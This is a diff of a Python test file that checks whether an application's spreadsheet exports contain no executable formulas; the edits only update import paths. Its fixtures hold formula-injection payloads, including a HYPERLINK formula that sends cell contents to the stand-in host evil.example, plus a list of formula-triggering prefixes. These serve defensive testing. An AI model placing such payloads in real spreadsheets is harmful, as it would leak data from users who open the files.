@@ -2,7 +2,7 @@
 named ``=HYPERLINK(...)`` and records whose text is ``=1+2``, every list's
 template, export and error file, the KPI report, the assessment export and a
 camp's sign-in sheet are opened with openpyxl and no cell is a formula or
-text a spreadsheet would run (``core.importing.neutralise`` is the one
+text a spreadsheet would run (``core.excel.cells.neutralise`` is the one
 function that writes them all)."""
 
 from __future__ import annotations
@@ -15,7 +15,7 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy import select
 
-from core.units import Unit, compute_path
+from core.tenancy.units import Unit, compute_path
 
 HOSTILE_UNIT = '=HYPERLINK("http://evil.example/?x="&A1,"顺德区")'
 HOSTILE = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2", "\n=1+2"]
@@ -37,8 +37,8 @@ def formulas(data: bytes) -> list[str]:
 @pytest.fixture(scope="module")
 def hostile(app):
     """A city named like a formula, with records whose texts are formulas."""
-    from core.assessment import AssessmentIndicator
-    from core.kpi import KpiTarget
+    from core.kpi.assessment import AssessmentIndicator
+    from core.kpi.engine import KpiTarget
     from plugins.cultivation.models import YouthOrg
     from plugins.sample.models import SampleNote
     from plugins.training.models import Camp, Enrolment, Lecturer, Trainee
@@ -72,8 +72,10 @@ def hostile(app):
 
 
 def test_every_workbook_the_app_writes_is_free_of_formulas(app, hostile, as_user):
-    from core.import_views import importables
-    from core.importing import ImportReport, Limits, write_error_file
+    from core.excel.service import importables
+    from core.excel.engine import ImportReport
+    from core.excel.declarations import Limits
+    from core.excel.workbooks import write_error_file
 
     admin = as_user("admin")
     books: dict[str, bytes] = {}
